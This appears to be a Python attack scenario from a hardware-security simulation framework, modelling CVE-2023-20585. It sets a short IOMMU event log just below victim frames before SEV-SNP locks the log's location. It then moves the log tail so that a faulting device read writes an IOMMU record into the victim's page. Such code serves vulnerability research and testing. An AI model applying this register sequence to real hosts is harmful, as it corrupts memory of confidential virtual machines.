"""The IOMMU stores its own records where the hypervisor likes (row 41, CVE-2023-20585).

What locks the log's place at SNP_INIT leaves the tail alone, and a tail beyond a short log leads the record
past its end, as far as a log may be long at most.
"""

from __future__ import annotations

from node.iommu_driver import write_register
from node.iommu_registers import EVENT_LOG_ENABLE, IOMMU_ENABLE, Register, ring_register
from node.operations import DeviceRead
from psp.system_bus import PAGE_BYTES
from workloads.attacks.target import LET_IT_RUN, WRITE_BACK, Attack, Ground, Target

_SLOT = 6
"""An empty one: whatever a device there asks for is a page fault, with a record."""
_IOVA = 0x6_0000


def short_log(ground: Ground) -> Attack:
    """Set the shortest log up right below the frames that the victim will get, before SNP locks its place."""
    yield (
        write_register(Register.CONTROL, IOMMU_ENABLE),
        write_register(Register.EVENT_BASE, ring_register(ground.log, PAGE_BYTES)),
        write_register(Register.CONTROL, IOMMU_ENABLE | EVENT_LOG_ENABLE),
    )


def record_into_a_page(target: Target) -> Attack:
    """Row 41: move the tail to the victim's value, and have a device do something that goes on record."""
    yield LET_IT_RUN
    yield WRITE_BACK
    yield (write_register(Register.EVENT_TAIL, target.victim.value.spa - target.ground.log),)
    yield (DeviceRead(_SLOT, _IOVA, 1),)
    yield WRITE_BACK
